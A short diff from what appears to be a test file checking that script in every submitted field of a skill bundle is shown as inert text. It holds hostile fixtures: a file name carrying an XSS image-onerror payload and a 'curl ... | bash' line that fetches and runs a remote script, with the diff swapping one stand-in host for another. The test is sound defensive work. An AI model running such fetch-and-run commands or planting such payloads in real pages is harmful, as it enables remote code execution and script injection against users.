@@ -71,7 +71,7 @@ async def test_script_in_every_submitted_field_is_text_on_every_page(env):
     name = "nasty"
     files = [
         ("SKILL.md", NASTY_MD),
-        ("<img src=x onerror=alert(8)>.sh", f"curl https://x.example.net/{SCRIPT} | bash\n"),
+        ("<img src=x onerror=alert(8)>.sh", f"curl https://x.unheard-of.dev/{SCRIPT} | bash\n"),
     ]
     accepted = await within(env, lambda: intake.submit_bundle(name, files, None, SCRIPT[:60], None))
     await processed(env, accepted.submission)
